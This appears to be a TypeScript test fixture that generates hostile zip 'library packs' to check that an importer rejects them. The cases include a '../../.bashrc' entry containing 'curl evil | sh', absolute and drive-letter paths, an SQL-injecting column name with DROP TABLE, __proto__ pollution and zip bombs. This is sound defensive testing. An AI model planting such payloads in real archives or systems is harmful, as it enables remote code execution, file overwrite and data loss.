// Hostile library packs, made from a valid one: damaged, from a newer version, zip bombs, names that
// try to leave a folder, wrong types, rows that do not hang together. Each says how it must be refused.
import crypto from 'node:crypto';
import { strToU8, unzipSync, zipSync, type Zippable } from 'fflate';
import type { ApiErrorCode } from '../../../../shared/api/ApiError';

export interface HostilePack {
  label: string;
  /** Made on demand: some are large, and a list of labels is needed before a valid pack exists. */
  make: () => Uint8Array;
  code: ApiErrorCode;
}

type Files = Record<string, Uint8Array>;
type Json = Record<string, unknown> & { sources: Array<Record<string, unknown>> };

const sha256 = (b: Uint8Array) => crypto.createHash('sha256').update(b).digest('hex');
const json = (b: Uint8Array): Json => JSON.parse(Buffer.from(b).toString('utf8')) as Json;

/** Zips files with the manifest first, as the writer does. */
function zip(files: Files): Uint8Array {
  const { 'manifest.json': manifest, ...rest } = files;
  const entries: Zippable = manifest ? { 'manifest.json': manifest, ...rest } : rest;
  return zipSync(entries);
}

/** The manifest's sizes and checksums made to agree with the entries again, so a deeper check is reached. */
function resealed(files: Files): Files {
  const manifest = json(files['manifest.json']!);
  for (const s of manifest.sources) {
    const rows = files[`sources/${String(s.id)}/rows.json`];
    const original = Object.entries(files).find(([name]) => name.startsWith(`sources/${String(s.id)}/original.`))?.[1];
    if (rows) s.rows = { size: rows.length, sha256: sha256(rows) };
    if (original) s.original = { ...(s.original as object), size: original.length, sha256: sha256(original) };
  }
  return { ...files, 'manifest.json': strToU8(JSON.stringify(manifest)) };
}

/** The pack with one source's rows changed (and the manifest resealed). */
export function editRows(valid: Uint8Array, edit: (rows: Json & Record<string, Array<Record<string, unknown>>>) => void): Uint8Array {
  const files = unzipSync(valid);
  const name = Object.keys(files).find((n) => n.endsWith('/rows.json'))!;
  const rows = json(files[name]!) as Json & Record<string, Array<Record<string, unknown>>>;
  edit(rows);
  return zip(resealed({ ...files, [name]: strToU8(JSON.stringify(rows)) }));
}

function editManifest(valid: Uint8Array, edit: (manifest: Json) => unknown): Uint8Array {
  const files = unzipSync(valid);
  const manifest = json(files['manifest.json']!);
  const edited = edit(manifest) ?? manifest;
  return zip({ ...files, 'manifest.json': strToU8(JSON.stringify(edited)) });
}

/** Offset of an entry's record in the central directory. */
function centralRecord(bytes: Uint8Array, name: string): number {
  const buf = Buffer.from(bytes);
  let eocd = buf.length - 22;
  while (buf.readUInt32LE(eocd) !== 0x06054b50) eocd--;
  let at = buf.readUInt32LE(eocd + 16);
  for (let k = 0; k < buf.readUInt16LE(eocd + 10); k++) {
    const nameLength = buf.readUInt16LE(at + 28);
    if (buf.toString('utf8', at + 46, at + 46 + nameLength) === name) return at;
    at += 46 + nameLength + buf.readUInt16LE(at + 30) + buf.readUInt16LE(at + 32);
  }
  throw new Error(`no ${name}`);
}

/** A copy with a 32-bit (or 16-bit) field of an entry's central record overwritten. */
function patchCentral(valid: Uint8Array, name: string, field: number, value: number, bits: 16 | 32 = 32): Uint8Array {
  const out = Buffer.from(valid);
  const at = centralRecord(out, name) + field;
  if (bits === 16) out.writeUInt16LE(value, at);
  else out.writeUInt32LE(value, at);
  return out;
}

/** A copy with every occurrence of one name, local and central, renamed (same length). */
function renameEntry(valid: Uint8Array, from: string, to: string): Uint8Array {
  const out = Buffer.from(valid);
  for (let at = out.indexOf(from); at >= 0; at = out.indexOf(from, at + 1)) out.write(to, at, 'utf8');
  return out;
}

const rowsEntryOf = (pack: Uint8Array) => Object.keys(unzipSync(pack)).find((n) => n.endsWith('/rows.json'))!;
const originalEntryOf = (pack: Uint8Array) => Object.keys(unzipSync(pack)).find((n) => n.includes('/original.'))!;

/** A copy with a byte in the middle of the compressed rows changed: a copy error on the USB stick. */
function flipped(pack: Uint8Array): Uint8Array {
  const out = Buffer.from(pack);
  const name = rowsEntryOf(pack);
  const at = out.indexOf(name) + name.length + 40;
  out[at] = out[at]! ^ 0x5a;
  return out;
}

/** `valid` gives a valid pack whose first source has passages. */
export function hostilePacks(valid: () => Uint8Array): HostilePack[] {
  const files = () => unzipSync(valid());
  return [
    { label: 'an empty file', make: () => new Uint8Array(0), code: 'pack_damaged' },
    { label: 'not a zip', make: () => crypto.randomBytes(4096), code: 'pack_damaged' },
    { label: 'cut off halfway (copy interrupted)', make: () => valid().subarray(0, Math.floor(valid().length / 2)), code: 'pack_damaged' },
    { label: 'a byte changed inside the rows', make: () => flipped(valid()), code: 'pack_damaged' },
    { label: 'a zip without a manifest (a .docx renamed)', make: () => zipSync({ '_rels/.rels': strToU8('<x/>'), 'word/document.xml': strToU8('<w/>') }), code: 'pack_damaged' },
    { label: 'a manifest that is not JSON', make: () => zip({ ...files(), 'manifest.json': strToU8('{"format": "qianwan-library-pack", ') }), code: 'pack_damaged' },
    { label: 'the manifest of another program', make: () => zip({ ...files(), 'manifest.json': strToU8('{"name":"other","version":"1.0"}') }), code: 'pack_damaged' },
    {
      label: 'a newer format version, with a manifest this version cannot read',
      make: () => editManifest(valid(), () => ({ format: 'qianwan-library-pack', formatVersion: 2, parts: [{ kind: 'library', chunks: 3 }] })),
      code: 'pack_newer_version',
    },
    { label: 'an original swapped for another file', make: () => zip({ ...files(), [originalEntryOf(valid())]: strToU8('另一个文件') }), code: 'pack_damaged' },
    { label: 'an entry named ../../ to leave the folder', make: () => zip({ ...files(), '../../.bashrc': strToU8('curl evil | sh') }), code: 'pack_invalid' },
    { label: 'an absolute entry name', make: () => zip({ ...files(), '/etc/cron.d/x': strToU8('x') }), code: 'pack_invalid' },
    { label: 'a Windows path with backslashes', make: () => zip({ ...files(), 'sources\\..\\..\\x.exe': strToU8('MZ') }), code: 'pack_invalid' },
    { label: 'a drive-letter entry name', make: () => zip({ ...files(), 'C:/Windows/x.dll': strToU8('MZ') }), code: 'pack_invalid' },
    { label: 'the manifest twice', make: () => renameEntry(zip({ ...files(), 'manifest.jsoX': strToU8('{}') }), 'manifest.jsoX', 'manifest.json'), code: 'pack_invalid' },
    { label: 'an encrypted entry', make: () => patchCentral(valid(), rowsEntryOf(valid()), 8, 1, 16), code: 'pack_damaged' },
    { label: 'a zip bomb: rows inflating far past their declared 100 bytes', make: () => patchCentral(valid(), rowsEntryOf(valid()), 24, 100), code: 'file_unpack_limit' },
    { label: 'an entry declaring 3 GB', make: () => patchCentral(valid(), rowsEntryOf(valid()), 24, 3 * 1024 ** 3), code: 'file_unpack_limit' },
    {
      label: 'a zip bomb: 100 MB of rows from 100 KB, honestly declared',
      make: () => zip({ ...files(), [rowsEntryOf(valid())]: new Uint8Array(100 * 1024 * 1024).fill(0x20) }),
      code: 'file_unpack_limit',
    },
    { label: 'over 20 MB', make: () => new Uint8Array(21 * 1024 * 1024), code: 'file_too_large' },
    { label: 'a source id that is a path', make: () => editManifest(valid(), (m) => void (m.sources[0]!.id = '../../etc')), code: 'pack_invalid' },
    { label: '2,001 sources', make: () => editManifest(valid(), (m) => void (m.sources = Array.from({ length: 2001 }, () => m.sources[0]!))), code: 'pack_invalid' },
    { label: 'a passage text that is a number', make: () => editRows(valid(), (r) => void (r.passages![0]!.text = 12345)), code: 'pack_invalid' },
    { label: 'a passage text of an object', make: () => editRows(valid(), (r) => void (r.passages![0]!.text = { toString: 'x' })), code: 'pack_invalid' },
    { label: 'flags that are not JSON (the search would fail on them)', make: () => editRows(valid(), (r) => void (r.passages![0]!.flags = '{{')), code: 'pack_invalid' },
    { label: 'themes that are not JSON', make: () => editRows(valid(), (r) => void (r.passages![0]!.themes = '["生态", ')), code: 'pack_invalid' },
    { label: 'an occurrence beyond the end of the raw text', make: () => editRows(valid(), (r) => void (r.occurrences![0]!.end = 10_000_000)), code: 'pack_invalid' },
    { label: 'an occurrence ending before it starts', make: () => editRows(valid(), (r) => void Object.assign(r.occurrences![0]!, { start: 20, end: 10 })), code: 'pack_invalid' },
    { label: 'an occurrence of a passage the pack lacks', make: () => editRows(valid(), (r) => void (r.occurrences![0]!.passage_id = 'pmissing')), code: 'pack_invalid' },
    { label: 'a column name made to inject SQL', make: () => editRows(valid(), (r) => void (r.sources[0]!['title") VALUES (1); DROP TABLE sources; --'] = 'x')), code: 'pack_invalid' },
    { label: 'a __proto__ column', make: () => editRows(valid(), (r) => void Object.defineProperty(r.passages![0]!, '__proto__', { value: { polluted: 1 }, enumerable: true })), code: 'pack_invalid' },
    { label: 'rows of another source than the manifest says', make: () => editRows(valid(), (r) => void (r.sources[0]!.id = 'uotherother')), code: 'pack_invalid' },
    { label: 'counts that differ from the manifest', make: () => editRows(valid(), (r) => void r.works!.push({ ...r.works![0]!, id: 'uwextra' })), code: 'pack_invalid' },
  ];
}
